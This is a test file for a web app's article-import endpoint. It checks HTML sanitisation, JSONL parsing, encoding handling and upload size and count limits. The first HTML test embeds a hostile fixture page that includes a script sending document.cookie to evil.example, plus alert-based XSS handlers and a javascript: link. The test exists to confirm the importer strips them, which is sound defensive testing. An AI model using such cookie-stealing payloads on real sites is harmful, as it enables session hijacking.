import fs from "node:fs";
import path from "node:path";
import { describe, expect, test } from "vitest";
import { GET as getArticleRoute } from "@/app/api/articles/[id]/route";
import { GET as listArticlesRoute, POST as addArticleRoute } from "@/app/api/projects/[id]/articles/route";
import { db } from "@/lib/db";
import type { ImportFileError, ImportResult } from "@/lib/validation/article-import";
import { callRoute, expectApiError } from "../helpers/api";
import { buildProject, buildUser, type TestUser } from "../helpers/factories";

const fixturesDir = path.join(import.meta.dirname, "../fixtures/import");

async function articleRows() {
  const [articles, versions, audit] = await Promise.all([db.article.count(), db.articleVersion.count(), db.auditEvent.count()]);
  return { articles, versions, audit };
}

function upload(user: TestUser, projectId: string, files: File[], fields: Record<string, string> = {}) {
  const form = new FormData();
  for (const file of files) form.append("file", file);
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  return callRoute<ImportResult & { error?: { code: string; message: string } }>(addArticleRoute, "POST", `/api/projects/${projectId}/articles`, {
    params: { id: projectId },
    as: user.cookie,
    body: form,
  });
}

async function getArticle(user: TestUser, articleId: string) {
  const response = await callRoute(getArticleRoute, "GET", `/api/articles/${articleId}`, { params: { id: articleId }, as: user.cookie });
  expect(response.status).toBe(200);
  return response.body as { id: string; title: string; text: string; source: string | null; originalFileName: string | null; originalFileType: string | null };
}

async function listTitles(user: TestUser, projectId: string) {
  const response = await callRoute(listArticlesRoute, "GET", `/api/projects/${projectId}/articles`, { params: { id: projectId }, as: user.cookie });
  return response.body.articles.map((article: { position: number; title: string }) => [article.position, article.title]);
}

async function ownerWithProject() {
  const owner = await buildUser();
  const project = await buildProject(owner);
  return { owner, project };
}

const jsonl = (...lines: unknown[]) => lines.map((line) => (typeof line === "string" ? line : JSON.stringify(line))).join("\n") + "\n";

describe("importing .html", () => {
  test("page chrome and a hostile payload: the stored text is the article's paragraphs, no markup, no script text", async () => {
    const { owner, project } = await ownerWithProject();
    const html = `<!DOCTYPE html>
<html><head>
  <title>Hollande in Moscow – Example Times</title>
  <link rel="canonical" href="https://news.example.org/2015/11/26/hollande-moscow">
  <script>fetch("http://evil.example/steal?c=" + document.cookie); window.pwned = true;</script>
  <style>body { background: url(http://evil.example/bg.png) }</style>
</head>
<body onload="alert('body')">
  <header><nav><a href="/">Home</a> | <a href="/world">World</a> | <a href="/login">Sign in</a></nav></header>
  <div class="gdpr-banner">This site uses cookies. <button onclick="accept()">Accept</button></div>
  <main>
    <article>
      <h1>Hollande in Moscow</h1>
      <p>French President Francois Hollande met Vladimir Putin in Moscow on Thursday to discuss a joint campaign against Islamic State, the last stop of a week of talks in Washington, London and Berlin.</p>
      <img src="http://evil.example/pixel.gif" onerror="alert('img'); window.pwned = true" alt="tracking pixel">
      <p>The two leaders agreed to <a href="javascript:alert('link')">share intelligence</a> &amp; to coordinate air strikes in Syria, officials said.</p>
      <script>document.write("<p>INJECTED PARAGRAPH</p>")</script>
      <p>Both leaders said their countries would exchange information about which territories are held by the moderate opposition and which by terrorists, so that air strikes spare the former.</p>
      <p>They remained divided over the future of Syrian President Bashar al-Assad, whom Moscow supports and whose departure Paris has long demanded as a condition for any settlement.</p>
    </article>
  </main>
  <footer>© 2015 Example Times · <a href="/privacy">Privacy</a></footer>
  <script src="http://evil.example/analytics.js"></script>
</body></html>`;
    const response = await upload(owner, project.id, [new File([html], "hollande-moscow.html", { type: "text/html" })]);
    expect(response.status).toBe(201);
    expect(response.body.errors).toEqual([]);
    expect(response.body.articles).toEqual([
      { id: expect.any(String), title: "Hollande in Moscow – Example Times", version: 1, source: "https://news.example.org/2015/11/26/hollande-moscow", originalFileName: "hollande-moscow.html" },
    ]);

    const article = await getArticle(owner, response.body.articles[0]!.id);
    expect(article.text).toBe(
      "French President Francois Hollande met Vladimir Putin in Moscow on Thursday to discuss a joint campaign against Islamic State, the last stop of a week of talks in Washington, London and Berlin.\n\n" +
        "The two leaders agreed to share intelligence & to coordinate air strikes in Syria, officials said.\n\n" +
        "Both leaders said their countries would exchange information about which territories are held by the moderate opposition and which by terrorists, so that air strikes spare the former.\n\n" +
        "They remained divided over the future of Syrian President Bashar al-Assad, whom Moscow supports and whose departure Paris has long demanded as a condition for any settlement.",
    );
    expect(article.text).not.toMatch(/[<>]|alert|pwned|evil|INJECTED|document\.|cookie|Sign in|Privacy/i);
    expect(article.originalFileType).toBe("text/html");
    expect((globalThis as { pwned?: boolean }).pwned).toBeUndefined();
  });

  test("a saved news page (fixture modelled on a real one): title, canonical source, paragraphs and subheads", async () => {
    const { owner, project } = await ownerWithProject();
    const bytes = fs.readFileSync(path.join(fixturesDir, "dw-hollande-putin.html"));
    const response = await upload(owner, project.id, [new File([bytes], "dw-hollande-putin.html", { type: "text/html" })]);
    expect(response.status).toBe(201);
    const [summary] = response.body.articles;
    expect(summary).toMatchObject({
      title: "Moscow and Paris agree to share intelligence on Syria",
      source: "https://www.dw.com/en/moscow-and-paris-agree-to-share-intelligence-on-syria/a-18878417",
    });
    const { text } = await getArticle(owner, summary!.id);
    const paragraphs = text.split("\n\n");
    expect(paragraphs[0]).toBe(
      "Moscow and Paris have agreed to share intelligence about terrorist activity as well as military operations in Syria. Both leaders, however, refused to back down from their position on the future of Bashar al-Assad.",
    );
    expect(paragraphs).toContain("Moscow mulls joining US airstrikes");
    expect(paragraphs).toContain("Putin blasts ‘betrayal’ by Turkey");
    expect(paragraphs).toContain("“I believe that the fate of the president of Syria must stay in the hands of the Syrian people,” Putin said.");
    expect(paragraphs.every((paragraph) => paragraph.trim() === paragraph && paragraph.length > 0)).toBe(true);
    expect(text).not.toMatch(/[<>]|cookies|Newsletter|Legal notice|SCRIPT RAN|gtag|dataLayer/);
  });

  test(".htm, a page in windows-1252, and a page without a title (the file name is used)", async () => {
    const { owner, project } = await ownerWithProject();
    const latin1 = Buffer.concat([Buffer.from('<meta charset="windows-1252"><p>Caf'), Buffer.from([0xe9, 0x20, 0x93, 0x61, 0x75, 0x20, 0x6c, 0x61, 0x69, 0x74, 0x94]), Buffer.from("</p>")]);
    const response = await upload(owner, project.id, [new File([latin1], "old-page.htm")]);
    expect(response.status).toBe(201);
    expect(response.body.articles[0]).toMatchObject({ title: "old-page", source: null, originalFileName: "old-page.htm" });
    expect((await getArticle(owner, response.body.articles[0]!.id)).text).toBe("Café “au lait”");
  });

  test("a page with no readable text is 422 naming the file, and creates nothing", async () => {
    const { owner, project } = await ownerWithProject();
    const before = await articleRows();
    const response = await upload(owner, project.id, [new File(["<html><head><script>x()</script></head><body><img src=http://e.example/a.png></body></html>"], "blank.html")]);
    expect(expectApiError(response, 422).message).toContain("blank.html");
    expect(await articleRows()).toEqual(before);
  });
});

describe("importing .jsonl", () => {
  test("3 lines are 3 articles, in order, each with its own title and source; blank lines are skipped", async () => {
    const { owner, project } = await ownerWithProject();
    const content =
      "\uFEFF" +
      jsonl(
        { title: "First", text: "One.\r\nLine two of one.", source: "AFP" },
        "",
        { title: "Second", text: "Two “quoted” 👍🏽.", source: null, id: 17, lang: "en" },
        { title: "  Third  ", text: "  Three, with spaces kept.  " },
      );
    const response = await upload(owner, project.id, [new File([content], "batch.jsonl")]);
    expect(response.status).toBe(201);
    expect(response.body.errors).toEqual([]);
    expect(response.body.articles.map(({ title, source, originalFileName, version }) => ({ title, source, originalFileName, version }))).toEqual([
      { title: "First", source: "AFP", originalFileName: "batch.jsonl", version: 1 },
      { title: "Second", source: null, originalFileName: "batch.jsonl", version: 1 },
      { title: "Third", source: null, originalFileName: "batch.jsonl", version: 1 },
    ]);
    expect(await listTitles(owner, project.id)).toEqual([
      [1, "First"],
      [2, "Second"],
      [3, "Third"],
    ]);
    const texts = await Promise.all(response.body.articles.map(async ({ id }) => (await getArticle(owner, id)).text));
    expect(texts).toEqual(["One.\nLine two of one.", "Two “quoted” 👍🏽.", "  Three, with spaces kept.  "]);
    const audits = await db.auditEvent.count({ where: { projectId: project.id, action: "article.create" } });
    expect(audits).toBe(3);
  });

  test.each([
    ["not JSON", '{"title": "Broken", "text": '],
    ["no title", JSON.stringify({ text: "No title here." })],
    ["an empty text", JSON.stringify({ title: "Empty", text: "  \n " })],
    ["not an object", JSON.stringify(["Title", "Text"])],
    ["a NUL character", JSON.stringify({ title: "NUL", text: "Bad\u0000text" })],
  ])("a bad line 2 (%s): nothing from that file is imported; the error names the file and line 2", async (_label, badLine) => {
    const { owner, project } = await ownerWithProject();
    const before = await articleRows();
    const content = jsonl({ title: "Good one", text: "Fine." }, badLine, { title: "Good three", text: "Also fine." });
    const response = await upload(owner, project.id, [new File([content], "dataset.jsonl")]);
    const error = expectApiError(response, 422);
    expect(error.code).toBe("validation_failed");
    expect(error.message).toContain("dataset.jsonl line 2");
    expect(response.body.articles).toEqual([]);
    expect(response.body.errors).toEqual([{ file: "dataset.jsonl", line: 2, code: "validation_failed", status: 422, message: expect.stringContaining("dataset.jsonl line 2") }]);
    expect(await articleRows()).toEqual(before);
  });

  test("a bad .jsonl beside good files: the good files import, the .jsonl imports nothing", async () => {
    const { owner, project } = await ownerWithProject();
    const response = await upload(owner, project.id, [
      new File(["Good headline\nBody.\n"], "good.txt"),
      new File([jsonl({ title: "A", text: "a" }, { title: "B" })], "half.jsonl"),
      new File([jsonl({ title: "C", text: "c" })], "fine.jsonl"),
    ]);
    expect(response.status).toBe(201);
    expect(response.body.articles.map((article) => [article.title, article.originalFileName])).toEqual([
      ["Good headline", "good.txt"],
      ["C", "fine.jsonl"],
    ]);
    expect(response.body.errors).toEqual([{ file: "half.jsonl", line: 2, code: "validation_failed", status: 422, message: expect.stringMatching(/^half\.jsonl line 2: .*"text"/) }]);
    expect(await listTitles(owner, project.id)).toEqual([
      [1, "Good headline"],
      [2, "C"],
    ]);
  });

  test("an empty .jsonl (only blank lines) is 422", async () => {
    const { owner, project } = await ownerWithProject();
    expect(expectApiError(await upload(owner, project.id, [new File(["\n  \n"], "nothing.jsonl")]), 422).message).toContain("nothing.jsonl is empty");
  });
});

describe("several files at once", () => {
  test("mixed upload (.txt good, .pdf bad, empty .txt): 201 with 1 article and 2 errors (415, 422)", async () => {
    const { owner, project } = await ownerWithProject();
    const response = await upload(owner, project.id, [
      new File(["Putin and Hollande meet\nThey talked about Syria.\n"], "good.txt", { type: "text/plain" }),
      new File(["%PDF-1.7\n%âãÏÓ\n"], "report.pdf", { type: "application/pdf" }),
      new File([""], "empty.txt", { type: "text/plain" }),
    ]);
    expect(response.status).toBe(201);
    expect(response.body.articles).toEqual([{ id: expect.any(String), title: "Putin and Hollande meet", version: 1, source: null, originalFileName: "good.txt" }]);
    expect(response.body.errors).toEqual<ImportFileError[]>([
      { file: "report.pdf", code: "unsupported_media_type", status: 415, message: expect.stringContaining("report.pdf") },
      { file: "empty.txt", code: "validation_failed", status: 422, message: expect.stringContaining("empty.txt") },
    ]);
    expect(await listTitles(owner, project.id)).toEqual([[1, "Putin and Hollande meet"]]);
  });

  test("a whitespace-only .txt is refused as empty", async () => {
    const { owner, project } = await ownerWithProject();
    const error = expectApiError(await upload(owner, project.id, [new File([" \r\n\t\n"], "blank.txt")]), 422);
    expect(error.message).toMatch(/blank\.txt: .*empty/);
  });

  test("when every file is refused: the first error's status, the API error shape, and the per-file list", async () => {
    const { owner, project } = await ownerWithProject();
    const before = await articleRows();
    const response = await upload(owner, project.id, [new File(["x"], "a.docx"), new File([""], "b.txt")]);
    const error = expectApiError(response, 415);
    expect(error.code).toBe("unsupported_media_type");
    expect(error.message).toContain("None of the 2 files");
    expect(response.body.articles).toEqual([]);
    expect(response.body.errors.map((entry) => [entry.file, entry.status])).toEqual([
      ["a.docx", 415],
      ["b.txt", 422],
    ]);
    expect(await articleRows()).toEqual(before);
  });

  test("a file over 5 MB is 413 naming it; the others still import", async () => {
    const { owner, project } = await ownerWithProject();
    const big = new File(["a".repeat(5 * 1024 * 1024 + 1)], "huge-transcript.txt");
    const alone = await upload(owner, project.id, [big]);
    expect(expectApiError(alone, 413).message).toContain("huge-transcript.txt");

    const mixed = await upload(owner, project.id, [big, new File(["Small\nfile\n"], "small.txt")]);
    expect(mixed.status).toBe(201);
    expect(mixed.body.articles.map((article) => article.originalFileName)).toEqual(["small.txt"]);
    expect(mixed.body.errors).toEqual([{ file: "huge-transcript.txt", code: "payload_too_large", status: 413, message: expect.stringContaining("huge-transcript.txt") }]);
  });

  test("more than 100 files is 413 and imports none of them", async () => {
    const { owner, project } = await ownerWithProject();
    const before = await articleRows();
    const files = Array.from({ length: 101 }, (_, index) => new File([`Article ${index}\nText.\n`], `a-${index}.txt`));
    const error = expectApiError(await upload(owner, project.id, files), 413);
    expect(error.message).toContain("101 files");
    expect(await articleRows()).toEqual(before);
  });

  test("exactly 100 files import, numbered in upload order", async () => {
    const { owner, project } = await ownerWithProject();
    const files = Array.from({ length: 100 }, (_, index) => new File([`Article ${index + 1}\nText.\n`], `a-${index + 1}.txt`));
    const response = await upload(owner, project.id, files);
    expect(response.status).toBe(201);
    expect(response.body.articles).toHaveLength(100);
    const titles = await listTitles(owner, project.id);
    expect(titles[0]).toEqual([1, "Article 1"]);
    expect(titles[99]).toEqual([100, "Article 100"]);
  });

  test("a request over 50 MB is 413 before anything is imported", async () => {
    const { owner, project } = await ownerWithProject();
    const before = await articleRows();
    const chunk = "b".repeat(5 * 1024 * 1024 - 10);
    const files = Array.from({ length: 11 }, (_, index) => new File([chunk], `part-${index}.txt`));
    const error = expectApiError(await upload(owner, project.id, files), 413);
    expect(error.message).toContain("50 MB");
    expect(await articleRows()).toEqual(before);
  });

  test("a title field with several files is 422; an outsider gets 404; nothing is created", async () => {
    const { owner, project } = await ownerWithProject();
    const outsider = await buildUser();
    const before = await articleRows();
    expectApiError(await upload(owner, project.id, [new File(["A\n"], "a.txt"), new File(["B\n"], "b.txt")], { title: "One title" }), 422);
    expectApiError(await upload(outsider, project.id, [new File(["A\n"], "a.txt")]), 404);
    expect(await articleRows()).toEqual(before);
  });
});
